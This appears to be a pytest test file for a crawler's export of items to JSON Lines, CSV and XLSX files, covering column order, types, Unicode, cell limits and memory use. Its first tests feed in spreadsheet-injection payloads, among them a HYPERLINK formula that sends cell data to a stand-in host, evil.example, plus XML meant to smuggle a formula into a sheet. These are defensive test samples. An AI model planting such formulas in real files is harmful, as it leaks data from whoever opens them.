"""Output files: what is in them, what a hostile page cannot put into them, and how much memory they take."""

from __future__ import annotations

import asyncio
import csv
import hashlib
import io
import re
import tempfile
import threading
import time
import tracemalloc
import zipfile
from collections.abc import AsyncIterator, Iterable, Mapping
from pathlib import Path
from typing import Any

import orjson
import pytest
from openpyxl import load_workbook

from adapters.storage import Storage, open_storage
from models.ids import new_id
from models.jobs import FileFormat
from tasks.crawl import outputs
from tasks.export import cells, tables
from tests.storage_servers import make_settings

Items = Iterable[Mapping[str, Any]]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


class Made:
    """The files of some items, read back."""

    def __init__(self, files: dict[FileFormat, outputs.NewFile], data: dict[FileFormat, bytes]) -> None:
        self.files = files
        self.data = data

    @property
    def lines(self) -> list[dict[str, Any]]:
        """The JSON Lines."""
        return [orjson.loads(line) for line in self.data[FileFormat.JSONL].splitlines()]

    @property
    def csv_text(self) -> str:
        """The CSV file without its mark."""
        return self.data[FileFormat.CSV].decode("utf-8-sig")

    @property
    def table(self) -> list[list[str]]:
        """The CSV file, header included."""
        return list(csv.reader(io.StringIO(self.csv_text, newline="")))

    @property
    def sheets(self) -> list[list[tuple[Any, ...]]]:
        """The XLSX file, headers included."""
        book = load_workbook(io.BytesIO(self.data[FileFormat.XLSX]))
        return [list(sheet.iter_rows(values_only=True)) for sheet in book.worksheets]

    @property
    def sheet_markup(self) -> str:
        """The XML of the first sheet."""
        with zipfile.ZipFile(io.BytesIO(self.data[FileFormat.XLSX])) as archive:
            return archive.read("xl/worksheets/sheet1.xml").decode()


@pytest.fixture
async def storage(tmp_path: Path) -> AsyncIterator[Storage]:
    async with open_storage(make_settings(tmp_path)) as storage:
        yield storage


async def pages(items: Items, size: int = 100) -> AsyncIterator[list[dict[str, str]]]:
    """Items as the database gives them."""
    page: list[dict[str, str]] = []
    for item in items:
        page.append({"data": orjson.dumps(item).decode()})
        if len(page) == size:
            yield page
            page = []
    if page:
        yield page


async def make(storage: Storage, items: Items, *first_columns: str) -> Made:
    files = await outputs.make_files(storage, pages(items), run_id=new_id(), attempt=1, first_columns=first_columns)
    data = {}
    for file in files:
        data[file.format] = b"".join([chunk async for chunk in storage.get(file.key)])
    return Made({file.format: file for file in files}, data)


# -- what a page must not do


@pytest.mark.parametrize("start", FORMULA_STARTS)
async def test_text_that_begins_like_a_formula_is_text_in_both_tables(storage: Storage, start: str) -> None:
    evil = f'{start}HYPERLINK("http://evil.example/?"&A1)'
    made = await make(storage, [{"a": evil, evil: "b", "c": {evil: [evil]}}])
    assert all(not cell.startswith(FORMULA_STARTS) for row in made.table for cell in row)
    assert f"'{evil}" in made.table[1]
    assert f"'{evil}" in made.table[0]
    assert "<f>" not in made.sheet_markup
    assert re.findall(r' t="(\w+)"', made.sheet_markup) == ["inlineStr"] * 6
    assert evil in [cell.replace("_x000D_", "\r") for cell in made.sheets[0][1]]
    assert made.lines[0]["a"] == evil, "data for programs is not changed"


async def test_a_separator_of_another_locale_begins_no_cell(storage: Storage) -> None:
    made = await make(storage, [{"a": "x;=1+1;y", "b": "z"}])
    assert made.csv_text == '"a","b"\r\n"x;=1+1;y","z"\r\n'


async def test_markup_stays_text(storage: Storage) -> None:
    evil = '<r><t>x</t></r></is></c><c r="B2"><f>1+1</f><v>2</v></c><c r="C2" t="inlineStr"><is><r><t>y</t></r>'
    made = await make(storage, [{"a": evil, "b": "<r>&amp;</r>"}])
    assert "<f>" not in made.sheet_markup
    header, row = made.sheets[0]
    assert header == ("a", "b")
    assert [cell.strip() for cell in row] == [evil, "<r>&amp;</r>"]


# -- what is in them


async def test_columns_come_as_asked_then_by_name_and_nested_ones_in_the_place_of_their_object(
    storage: Storage,
) -> None:
    items = [
        {"zip": 1, "address": {"street": "s", "geo": {"lon": 2, "lat": 1}}, "url": "u", "extra": None},
        {"url": "v", "address": {"city": "c"}, "also": True},
    ]
    made = await make(storage, items, "url", "address", "missing")
    columns = ["url", "address.city", "address.geo.lat", "address.geo.lon", "address.street", "also", "extra", "zip"]
    assert made.table == [columns, ["u", "", "1", "2", "s", "", "", "1"], ["v", "c", "", "", "", "true", "", ""]]
    assert made.sheets[0][0] == tuple(columns)
    assert made.sheets[0][2] == ("v", "c", None, None, None, True, None, None)
    assert list(made.lines[0]) == ["url", "address", "zip", "extra"]


async def test_values_keep_their_type(storage: Storage) -> None:
    item: dict[str, Any] = {
        "a": 1,
        "b": -2.5,
        "c": True,
        "d": False,
        "e": None,
        "f": [1, "x"],
        "g": [],
        "h": {},
        "i": 2**53,
        "j": "12",
    }
    made = await make(storage, [item])
    assert made.lines == [item]
    assert made.table[1] == ["1", "-2.5", "true", "false", "", '[1,"x"]', "[]", "{}", str(2**53), "12"]
    assert made.csv_text.splitlines()[1].startswith('1,-2.5,"true"'), "numbers are not quoted"
    # Excel knows fifteen digits: what has more stays whole as text.
    assert made.sheets[0][1] == (1, -2.5, True, False, None, '[1,"x"]', "[]", "{}", str(2**53), "12")


async def test_csv_is_rfc_4180_with_a_mark(storage: Storage) -> None:
    texts = ['say "hello"', "a,b", "two\r\nlines", "two\nlines", "", " spaced "]
    made = await make(storage, [{"text": text} for text in texts])
    assert made.data[FileFormat.CSV].startswith(b"\xef\xbb\xbf")
    assert [row[0] for row in made.table[1:]] == texts
    assert made.csv_text.startswith('"text"\r\n"say ""hello"""\r\n')
    assert made.csv_text.endswith('" spaced "\r\n')


async def test_every_script_survives(storage: Storage) -> None:
    texts = [
        "Ñandú €",
        "日本語",
        "שלום",
        "🏡👩‍👩‍👧",
        "e\u0301",
        "\u2028",
        "a\u0001b",
        "_x0041_",
        "\ufffe\uffff",
        "&<>'\"",
    ]
    made = await make(storage, [{"名": text} for text in texts])
    assert [line["名"] for line in made.lines] == texts
    assert [row[0] for row in made.table] == ["名", *texts]
    read = [row[0].replace("_x0001_", "\u0001").replace("_x005F_", "_") for row in made.sheets[0]]
    assert read == ["名", *(text.replace("\ufffe\uffff", "\ufffd\ufffd") for text in texts)]


@pytest.mark.parametrize(("character", "fit"), [("x", 32_767), ("🏡", 16_383)])
async def test_a_cell_that_excel_cannot_hold_is_cut_there_and_nowhere_else(
    storage: Storage, character: str, fit: int
) -> None:
    made = await make(storage, [{"a": character * 40_000, "b": ["y" * 40_000], "c": "<r>" + "z" * 40_000}])
    assert made.lines[0]["a"] == made.table[1][0] == character * 40_000
    row = made.sheets[0][1]
    assert row[0] == character * fit
    assert [len(cell) for cell in row[1:]] == [32_767, 32_767]


async def test_no_items_make_files_with_a_header(storage: Storage) -> None:
    made = await make(storage, [], "url", "title")
    assert made.data[FileFormat.JSONL] == b""
    assert made.table == [["url", "title"]]
    assert made.sheets == [[("url", "title")]]
    assert {file.row_count for file in made.files.values()} == {0}


async def test_a_full_sheet_is_followed_by_another(storage: Storage, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(tables, "MAX_SHEET_ROWS", 4)
    made = await make(storage, [{"n": number} for number in range(9)])
    assert made.sheets == [
        [("n",), (0,), (1,), (2,), (3,)],
        [("n",), (4,), (5,), (6,), (7,)],
        [("n",), (8,)],
    ]


# -- what they are


async def test_files_are_described_as_they_are_and_named_by_run_and_attempt(storage: Storage) -> None:
    run_id = new_id()
    items = [{"n": number} for number in range(250)]
    files = await outputs.make_files(storage, pages(items), run_id=run_id, attempt=7, first_columns=["n"])
    assert {file.key for file in files} == {f"runs/{run_id}/7/items.{ending}" for ending in ("jsonl", "csv", "xlsx")}
    for file in files:
        data = b"".join([chunk async for chunk in storage.get(file.key)])
        assert (file.size, file.sha256) == (len(data), hashlib.sha256(data).hexdigest())
        assert file.row_count == 250
        assert file.filename.startswith("run_")
        info = await storage.head(file.key)
        assert info is not None
        assert info.content_type == outputs.CONTENT_TYPES[file.format]


@pytest.mark.slow
async def test_a_hundred_thousand_items_take_no_more_memory_than_a_few(storage: Storage) -> None:
    text = "a home of three rooms " * 12
    items = ({"number": number, "text": f"{number} {text}"} for number in range(100_000))
    tracemalloc.start()
    try:
        files = await outputs.make_files(
            storage, pages(items, outputs.PAGE_ITEMS), run_id=new_id(), attempt=1, first_columns=["number"]
        )
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert files[0].row_count == 100_000
    assert files[0].size > 28 * 10**6
    assert peak < 8 * 10**6


def test_a_worker_that_leaves_does_not_wait_for_a_long_table(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    folder = tmp_path / "temporary"
    folder.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(folder))
    rows_written = 0
    reached = threading.Event()
    write_cell = cells.write_sheet_cell

    def slow_cell(*arguments: Any) -> None:
        nonlocal rows_written
        rows_written += 1
        reached.set()
        time.sleep(0.01)  # as slow as a hundred columns
        write_cell(*arguments)

    monkeypatch.setattr(tables, "write_sheet_cell", slow_cell)

    async def leave() -> None:
        async with open_storage(make_settings(tmp_path)) as storage:
            task = asyncio.create_task(make(storage, ({"n": number} for number in range(2_000))))
            assert await asyncio.to_thread(reached.wait, 10)
            task.cancel()
            with pytest.raises(asyncio.CancelledError):
                await task
        assert not list(folder.iterdir())

    with asyncio.Runner() as runner:
        runner.run(leave())  # its end waits for the threads
    assert rows_written < 200
